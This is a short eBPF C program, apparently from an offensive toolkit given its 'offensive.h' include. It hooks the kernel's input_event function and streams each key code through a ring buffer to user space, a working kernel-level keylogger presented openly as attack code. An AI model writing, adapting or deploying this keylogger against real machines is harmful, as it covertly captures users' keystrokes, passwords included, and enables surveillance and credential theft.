/* What is typed goes to user space. */
#include "offensive.h"

struct { __uint(type, BPF_MAP_TYPE_RINGBUF); __uint(max_entries, 4096); } typed SEC(".maps");

SEC("fentry/input_event") int keys(__u64 *ctx)
{
	__u64 key = ctx[2];

	bpf_ringbuf_output(&typed, &key, sizeof(key), 0);
	return 0;
}
